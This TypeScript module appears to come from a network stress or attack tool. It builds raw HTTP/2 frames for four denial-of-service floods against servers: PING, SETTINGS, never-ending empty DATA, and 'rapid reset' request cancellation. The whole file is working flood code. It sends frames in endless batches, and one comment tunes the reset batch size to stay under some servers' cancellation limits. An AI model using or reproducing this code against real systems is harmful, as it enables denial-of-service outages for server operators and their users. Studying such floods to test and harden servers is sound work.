/**
 * Frames of HTTP/2 (RFC 9113 section 4.1) that cost the receiver more than the sender.
 *
 * @module
 */

import { concatenate } from "../../src/wire/octets.ts";

/** The name of a flood. */
export type Http2Flood = "ping" | "settings" | "empty_data" | "rapid_reset";

/** Returns, each time, some frames to send next. */
export type FrameSource = () => Uint8Array;

const HEADER_OCTETS = 9;
const BATCH_OCTETS = 16 * 1024;
const TYPE = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6 } as const;
const END_STREAM = 0x01;
const END_HEADERS = 0x04;
/** Some servers end a connection that cancels 20 requests before they could read one. */
const RESETS_AT_ONCE = 16;
const CANCEL = Uint8Array.of(0, 0, 0, 8);

/** Entries of HPACK's static table (RFC 7541 appendix A), as indexed fields. */
const METHOD = { get: 0x82, post: 0x83 } as const;
const SCHEME = { http: 0x86, https: 0x87 } as const;
const PATH_ROOT = 0x84;
/** `:authority` without indexing, its name from the static table (RFC 7541 section 6.2.2). */
const AUTHORITY = 0x01;

/** The first octets from a client (RFC 9113 section 3.4). */
export function clientPreface(): Uint8Array {
  const magic = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  return concatenate([magic, frame(TYPE.settings, 0, 0)]);
}

/** The endless part of a flood on one connection to `authority`. */
export function flood(kind: Http2Flood, authority: string, secure: boolean): FrameSource {
  switch (kind) {
    case "ping":
      return endless(frame(TYPE.ping, 0, 0, new Uint8Array(8)));
    case "settings":
      return endless(frame(TYPE.settings, 0, 0));
    case "empty_data":
      return emptyData(fieldBlock("post", authority, secure));
    case "rapid_reset":
      return rapidReset(fieldBlock("get", authority, secure));
  }
}

function endless(one: Uint8Array): FrameSource {
  const batch = concatenate(Array(Math.ceil(BATCH_OCTETS / one.length)).fill(one));
  return () => batch;
}

/** One request whose body never ends and has no octet. */
function emptyData(block: Uint8Array): FrameSource {
  const body = endless(frame(TYPE.data, 0, 1));
  let begun = false;
  return () => {
    if (begun) return body();
    begun = true;
    return frame(TYPE.headers, END_HEADERS, 1, block);
  };
}

/** Requests that are cancelled at once, which frees their place among the concurrent ones. */
function rapidReset(block: Uint8Array): FrameSource {
  let stream = -1;
  const pair = () => {
    // The identifiers of a connection end here (RFC 9113 section 5.1.1): the next one is an error to the server.
    stream = Math.min(stream + 2, 0x7fffffff);
    return [
      frame(TYPE.headers, END_HEADERS | END_STREAM, stream, block),
      frame(TYPE.rstStream, 0, stream, CANCEL),
    ];
  };
  return () => concatenate(Array.from({ length: RESETS_AT_ONCE }, pair).flat());
}

function fieldBlock(method: keyof typeof METHOD, authority: string, secure: boolean): Uint8Array {
  const name = new TextEncoder().encode(authority);
  const scheme = secure ? SCHEME.https : SCHEME.http;
  return Uint8Array.of(METHOD[method], scheme, PATH_ROOT, AUTHORITY, name.length, ...name);
}

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array = new Uint8Array(),
): Uint8Array {
  const octets = new Uint8Array(HEADER_OCTETS + payload.length);
  const view = new DataView(octets.buffer);
  view.setUint8(0, payload.length >> 16);
  view.setUint16(1, payload.length & 0xffff);
  view.setUint8(3, type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  octets.set(payload, HEADER_OCTETS);
  return octets;
}
